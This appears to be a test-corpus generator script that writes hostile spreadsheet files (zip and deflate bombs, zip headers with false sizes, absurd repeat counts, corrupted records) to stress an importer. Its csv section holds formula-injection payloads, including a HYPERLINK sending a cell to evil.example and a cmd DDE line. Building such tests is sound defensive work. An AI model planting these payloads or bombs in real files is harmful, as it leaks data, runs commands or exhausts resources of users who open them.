#!/usr/bin/env python3
"""Writes a corpus of hostile workbooks into a directory, for cli/tests/hostile.rs.

    python3 scripts/hostile-corpus.py OUT_DIR [--big]

Every file is built here from the standard library (zipfile, struct, zlib) or
byte-patched from a committed fixture, so nothing generated is committed. Each file is
small on disk and lies about, or expands to, something large: the importer must answer
each with a report (exit 0) or a `sheetkpi: ...` message (exit 2), within a memory cap.
`--big` adds the bombs that take seconds to write (a gigabyte and more inflated).

The names say what each file does; `index.tsv` lists them with one line of description.
"""

import os
import random
import struct
import sys
import zipfile
import zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FIXTURES = os.path.join(ROOT, "tests", "fixtures")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"

index = []


def out(dir_, name, data, what):
    with open(os.path.join(dir_, name), "wb") as f:
        f.write(data)
    index.append((name, what))


# ---------------------------------------------------------------- xlsx

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL}">'
    f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{REL}">'
    '<sheets><sheet name="Campaigns" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL}">'
    f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)


def inline(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def num(ref, x):
    return f'<c r="{ref}"><v>{x}</v></c>'


# A small campaign table: a header sheetkpi recognises and two data rows.
ROWS = (
    '<row r="1">' + inline("A1", "Channel") + inline("B1", "Spend") + inline("C1", "Revenue") + "</row>"
    '<row r="2">' + inline("A2", "Search") + num("B2", 100) + num("C2", 250) + "</row>"
    '<row r="3">' + inline("A3", "Social") + num("B3", 50) + num("C3", 60) + "</row>"
)


def sheet(rows=ROWS, dimension="A1:C3"):
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">{dim}<sheetData>{rows}</sheetData></worksheet>'


def xlsx(parts, path=None):
    """A zip of the base parts, `parts` (name -> str/bytes, or a callable writing the
    entry itself) replacing or adding to them."""
    base = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet(),
    }
    base.update(parts)
    import io

    buf = io.BytesIO() if path is None else open(path, "wb")
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, body in base.items():
            if callable(body):
                info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED
                with z.open(info, "w", force_zip64=True) as f:
                    body(f)
            else:
                z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), body, zipfile.ZIP_DEFLATED, 9)
    if path is None:
        return buf.getvalue()
    buf.close()
    return None


def sst(strings, unique=None):
    unique = len(strings) if unique is None else unique
    body = "".join(f"<si><t>{s}</t></si>" for s in strings)
    return f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="{unique}" uniqueCount="{unique}">{body}</sst>'


def shared_rows():
    return (
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>3</v></c><c r="B2"><v>100</v></c><c r="C2"><v>250</v></c></row>'
    )


def streamed(prefix, chunk, times, suffix):
    """An entry body written in pieces: prefix, chunk × times, suffix."""

    def write(f):
        f.write(prefix.encode())
        for _ in range(times):
            f.write(chunk)
        f.write(suffix.encode())

    return write


def patch_sizes(data, name, size):
    """Rewrites the uncompressed size of entry `name` in both its local header and the
    central directory: a zip whose declared sizes lie."""
    b = bytearray(data)
    key = name.encode()
    i = 0
    while True:
        i = b.find(b"PK\x03\x04", i)
        if i < 0:
            break
        n = struct.unpack_from("<H", b, i + 26)[0]
        if b[i + 30 : i + 30 + n] == key:
            struct.pack_into("<I", b, i + 22, size)
        i += 4
    i = 0
    while True:
        i = b.find(b"PK\x01\x02", i)
        if i < 0:
            break
        n = struct.unpack_from("<H", b, i + 28)[0]
        if b[i + 46 : i + 46 + n] == key:
            struct.pack_into("<I", b, i + 24, size)
        i += 4
    return bytes(b)


def xlsx_corpus(d, big):
    out(d, "xlsx-valid.xlsx", xlsx({}), "a small valid workbook (control: exit 0)")
    out(
        d,
        "xlsx-sst-unique-count.xlsx",
        xlsx({"xl/worksheets/sheet1.xml": sheet(shared_rows(), "A1:C2"),
              "xl/sharedStrings.xml": sst(["Channel", "Spend", "Revenue", "Search"], unique=4_000_000_000)}),
        'sharedStrings uniqueCount="4000000000" over four strings',
    )
    out(d, "xlsx-dimension-huge.xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet(dimension="A1:XFD1048576")}),
        '<dimension ref="A1:XFD1048576"> over three rows')
    corners = ROWS + (
        '<row r="1048576"><c r="XFD1048576"><f>KPI.ROAS(C2,B2)</f><v>2.5</v></c></row>'
    )
    corners = corners.replace(inline("A1", "Channel"), '<c r="A1" t="str"><f>"Channel"</f><v>Channel</v></c>')
    out(d, "xlsx-formula-corners.xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet(corners, dimension=None)}),
        "formulas in A1 and XFD1048576, no dimension (a 17-billion-cell bounding box)")
    # 40 MB of whitespace inside the sheet, declared as 100 bytes.
    ws = streamed(sheet(dimension="A1:C3").replace("</sheetData>", ""), b" " * (1 << 20), 40, "</sheetData></worksheet>")
    out(d, "xlsx-size-lie-small.xlsx", patch_sizes(xlsx({"xl/worksheets/sheet1.xml": ws}), "xl/worksheets/sheet1.xml", 100),
        "the sheet part declares 100 bytes and inflates to 40 MB")
    out(d, "xlsx-size-lie-huge.xlsx", patch_sizes(xlsx({}), "xl/worksheets/sheet1.xml", 0xFFFF_FFF0),
        "the sheet part declares 4 GB and holds 600 bytes")
    # Rows that are all empty: the work must follow what is there.
    empty_rows = "".join(f'<row r="{r}"/>' for r in range(4, 200_004))
    out(d, "xlsx-empty-rows.xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet(ROWS + empty_rows, dimension="A1:C200003")}),
        "200,000 empty row elements after the data")
    out(d, "xlsx-shared-index-out-of-range.xlsx",
        xlsx({"xl/worksheets/sheet1.xml": sheet(shared_rows().replace("<v>3</v>", "<v>4294967295</v>"), "A1:C2"),
              "xl/sharedStrings.xml": sst(["Channel", "Spend", "Revenue", "Search"])}),
        "a shared-string index past the table")
    if big:
        # 2 GB of whitespace in the sheet (about 2 MB compressed).
        ws = streamed(sheet(dimension="A1:C3").replace("</sheetData>", ""), b" " * (1 << 20), 2048, "</sheetData></worksheet>")
        xlsx({"xl/worksheets/sheet1.xml": ws}, os.path.join(d, "xlsx-bomb-whitespace.xlsx"))
        index.append(("xlsx-bomb-whitespace.xlsx", "2 GB of whitespace in the sheet part (a deflate bomb)"))
        # One shared string of 1.5 GB.
        one = streamed(f'<?xml version="1.0"?><sst xmlns="{MAIN}" count="4" uniqueCount="4"><si><t>Channel</t></si>'
                       "<si><t>Spend</t></si><si><t>Revenue</t></si><si><t>", b"A" * (1 << 20), 1536, "</t></si></sst>")
        xlsx({"xl/worksheets/sheet1.xml": sheet(shared_rows(), "A1:C2"), "xl/sharedStrings.xml": one},
             os.path.join(d, "xlsx-bomb-one-string.xlsx"))
        index.append(("xlsx-bomb-one-string.xlsx", "one shared string of 1.5 GB"))
        # 40 million tiny shared strings (each costs far more in memory than in the file).
        many = streamed(f'<?xml version="1.0"?><sst xmlns="{MAIN}"><si><t>Channel</t></si><si><t>Spend</t></si>'
                        "<si><t>Revenue</t></si>", b"<si><t>a</t></si>" * 100_000, 400, "</sst>")
        xlsx({"xl/worksheets/sheet1.xml": sheet(shared_rows(), "A1:C2"), "xl/sharedStrings.xml": many},
             os.path.join(d, "xlsx-bomb-many-strings.xlsx"))
        index.append(("xlsx-bomb-many-strings.xlsx", "40 million one-letter shared strings"))


# ---------------------------------------------------------------- ods

ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def ods(rows):
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODS_NS} office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Campaigns">'
        f"{rows}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    import io

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        z.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
            zipfile.ZIP_DEFLATED,
        )
        z.writestr("content.xml", content, zipfile.ZIP_DEFLATED, 9)
    return buf.getvalue()


def ods_text(t, cols=1):
    rep = f' table:number-columns-repeated="{cols}"' if cols > 1 else ""
    return f'<table:table-cell office:value-type="string"{rep}><text:p>{t}</text:p></table:table-cell>'


def ods_num(x):
    return f'<table:table-cell office:value-type="float" office:value="{x}"><text:p>{x}</text:p></table:table-cell>'


ODS_HEAD = "<table:table-row>" + ods_text("Channel") + ods_text("Spend") + ods_text("Revenue") + "</table:table-row>"
ODS_ROW = "<table:table-row>" + ods_text("Search") + ods_num(100) + ods_num(250) + "</table:table-row>"


def ods_corpus(d):
    out(d, "ods-valid.ods", ods(ODS_HEAD + ODS_ROW), "a small valid ods (control: exit 0)")
    wide = '<table:table-row table:number-rows-repeated="1048000">' + ods_text("x", 16384) + "</table:table-row>"
    out(d, "ods-repeat-columns-rows.ods", ods(ODS_HEAD + ODS_ROW + wide),
        "a cell repeated across 16,384 columns and 1,048,000 rows")
    big = "B" * 10_240
    rep = '<table:table-row table:number-rows-repeated="100000">' + ods_text(big, 100) + "</table:table-row>"
    out(d, "ods-repeat-10kb-string.ods", ods(ODS_HEAD + ODS_ROW + rep), "a 10 KB string repeated 100 × 100,000 times")
    tall = '<table:table-row table:number-rows-repeated="4000000000">' + ods_num(1) + "</table:table-row>"
    out(d, "ods-repeat-rows-4e9.ods", ods(ODS_HEAD + ODS_ROW + tall), "a row repeated 4 billion times")
    empty = '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    out(d, "ods-repeat-empty.ods", ods(ODS_HEAD + ODS_ROW + empty + ODS_ROW),
        "a million empty rows of 16,384 empty cells between data rows")


# ---------------------------------------------------------------- xls (BIFF8)


def xls_records(data):
    """(offset, type, length) of BIFF records found by scanning for DIMENSIONS."""
    i = data.find(b"\x00\x02\x0e\x00")
    if i < 0:
        raise SystemExit("no DIMENSIONS record in the xls fixture")
    return i


def xls_corpus(d):
    base = open(os.path.join(FIXTURES, "no_lo.xls"), "rb").read()
    out(d, "xls-valid.xls", base, "the committed LibreOffice xls (control)")
    at = xls_records(base) + 4
    b = bytearray(base)
    struct.pack_into("<II", b, at, 0, 4_000_000_000)
    out(d, "xls-dimensions-4e9-rows.xls", bytes(b), "a DIMENSIONS record claiming 4 billion rows")
    b = bytearray(base)
    struct.pack_into("<IIHH", b, at, 5, 2, 0, 3)
    out(d, "xls-dimensions-inverted.xls", bytes(b), "a DIMENSIONS record whose first row is after its last")
    b = bytearray(base)
    struct.pack_into("<IIHH", b, at, 0, 65536, 0, 256)
    out(d, "xls-dimensions-full.xls", bytes(b), "a DIMENSIONS record claiming the whole 65,536 × 256 sheet")
    rng = random.Random(14)
    for k in range(6):
        cut = rng.randrange(512, len(base))
        out(d, f"xls-truncated-{k}.xls", base[:cut], f"the xls cut at byte {cut}")
    for k in range(30):
        b = bytearray(base)
        for _ in range(4):
            i = rng.randrange(512, len(b))
            b[i] ^= 1 << rng.randrange(8)
        out(d, f"xls-flipped-{k}.xls", bytes(b), "the xls with four bits flipped after the header")


# ---------------------------------------------------------------- xlsb


def rec(typ, body=b""):
    t = bytes([typ]) if typ < 0x80 else bytes([(typ & 0x7F) | 0x80, typ >> 7])
    n, ln = len(body), bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        ln.append(byte | (0x80 if n else 0))
        if not n:
            break
    return t + bytes(ln) + body


def wide(s):
    u = s.encode("utf-16-le")
    return struct.pack("<I", len(u) // 2) + u


def xlsb(sheet_records, bundle=None):
    if bundle is None:
        bundle = struct.pack("<II", 0, 1) + wide("rId1") + wide("Campaigns")
    workbook = rec(0x83) + rec(0x8F) + rec(0x9C, bundle) + rec(0x90) + rec(0x84)
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL}">'
        f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.bin"/></Relationships>'
    )
    import io

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", ROOT_RELS.replace("workbook.xml", "workbook.bin"))
        z.writestr("xl/workbook.bin", workbook)
        z.writestr("xl/_rels/workbook.bin.rels", rels)
        z.writestr("xl/worksheets/sheet1.bin", sheet_records)
    return buf.getvalue()


def xlsb_sheet(rows=2, dim_last=None):
    def row(r):
        return rec(0x00, struct.pack("<I", r) + bytes(13))

    def text(c, s):
        return rec(0x06, struct.pack("<II", c, 0) + wide(s))

    def real(c, x):
        return rec(0x05, struct.pack("<IId", c, 0, x))

    last = rows if dim_last is None else dim_last
    body = rec(0x81) + rec(0x94, struct.pack("<IIII", 0, last, 0, 2)) + rec(0x91)
    body += row(0) + text(0, "Channel") + text(1, "Spend") + text(2, "Revenue")
    for r in range(1, rows + 1):
        body += row(r) + text(0, "Search" if r % 2 else "Social") + real(1, 100.0 + r) + real(2, 250.0 + r)
    return body + rec(0x92) + rec(0x82)


def xlsb_corpus(d):
    base = xlsb(xlsb_sheet())
    out(d, "xlsb-valid.xlsb", base, "a small hand-written xlsb (control)")
    out(d, "xlsb-dimension-huge.xlsb", xlsb(xlsb_sheet(dim_last=0x000F_FFFF)), "BrtWsDim claiming 1,048,576 rows")
    # A record claiming 256 MB in a part of a few hundred bytes.
    sheet_ = xlsb_sheet()
    claim = sheet_.replace(rec(0x91), rec(0x91) + b"\x06\xff\xff\xff\x7f", 1)
    out(d, "xlsb-record-length-lie.xlsb", xlsb(claim), "a cell record whose length claims 256 MB")
    short = sheet_.replace(rec(0x05, struct.pack("<IId", 1, 0, 101.0)), rec(0x05, b"\x01"), 1)
    out(d, "xlsb-short-record.xlsb", xlsb(short), "a number cell record one byte long")
    rng = random.Random(1440)
    inner = bytearray(sheet_)
    for k in range(24):
        b = bytearray(inner)
        for _ in range(3):
            i = rng.randrange(len(b))
            b[i] ^= 1 << rng.randrange(8)
        out(d, f"xlsb-flipped-{k}.xlsb", xlsb(bytes(b)), "the sheet part with three bits flipped")
    for k in range(6):
        cut = rng.randrange(1, len(inner))
        out(d, f"xlsb-truncated-part-{k}.xlsb", xlsb(bytes(inner[:cut])), f"the sheet part cut at byte {cut}")
    out(d, "xlsb-unknown-relationship.xlsb", xlsb(sheet_, struct.pack("<II", 0, 1) + wide("rId9") + wide("Campaigns")),
        "a sheet whose relationship id is not in the relationships part")
    out(d, "xlsb-short-bundle.xlsb", xlsb(sheet_, struct.pack("<I", 0)), "a sheet record (BrtBundleSh) four bytes long")
    out(d, "xlsb-bundle-length-lie.xlsb", xlsb(sheet_, struct.pack("<III", 0, 1, 0x7FFF_FFFF)),
        "a sheet record whose relationship id claims 2 billion characters")
    for k in range(12):
        b = bytearray(struct.pack("<II", 0, 1) + wide("rId1") + wide("Campaigns"))
        i = rng.randrange(len(b))
        b[i] ^= 1 << rng.randrange(8)
        out(d, f"xlsb-flipped-bundle-{k}.xlsb", xlsb(sheet_, bytes(b)), "the sheet record with one bit flipped")
    for k in range(4):
        cut = rng.randrange(30, len(base))
        out(d, f"xlsb-truncated-zip-{k}.xlsb", base[:cut], f"the xlsb cut at byte {cut}")


# ---------------------------------------------------------------- csv


def csv_corpus(d):
    out(d, "csv-cr-only.csv", b"Channel,Spend,Revenue\rSearch,100,250\rSocial,50,60\r", "CR-only line endings")
    out(d, "csv-unclosed-quote.csv", b'Channel,Spend,Revenue\nSearch,100,250\n"Social,50,60\nVideo,1,2\n',
        "a quote opened on line 3 and never closed")
    out(d, "csv-semicolon-points.csv", b"Channel;Spend;Revenue\nSearch;100.250;1.5\nSocial;2.5;60\n",
        "100.250 in a ; file whose numbers use decimal points")
    out(d, "csv-quoted-comma-number.csv", b'Channel,Spend,Revenue\nSearch,"100,250",1.5\nSocial,2.5,60\n',
        'a quoted "100,250" in a , file')
    out(d, "csv-injection.csv", b'Channel,Spend,Revenue\n"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",100,250\n'
        b"+cmd|' /C calc'!A0,50,60\n@SUM(A1),1,2\n", "labels that a spreadsheet would run as formulas")
    out(d, "csv-nul-bytes.csv", b"Channel,Spend\x00,Revenue\nSearch,100,250\n", "NUL bytes in a text file")
    out(d, "csv-long-line.csv", b"Channel,Spend,Revenue\n" + b"x" * (8 << 20) + b",1,2\n", "one 8 MB field")


def main():
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    big = "--big" in sys.argv
    if len(args) != 1:
        raise SystemExit(__doc__)
    d = args[0]
    os.makedirs(d, exist_ok=True)
    xlsx_corpus(d, big)
    ods_corpus(d)
    xls_corpus(d)
    xlsb_corpus(d)
    csv_corpus(d)
    with open(os.path.join(d, "index.tsv"), "w") as f:
        for name, what in index:
            f.write(f"{name}\t{what}\n")


if __name__ == "__main__":
    main()
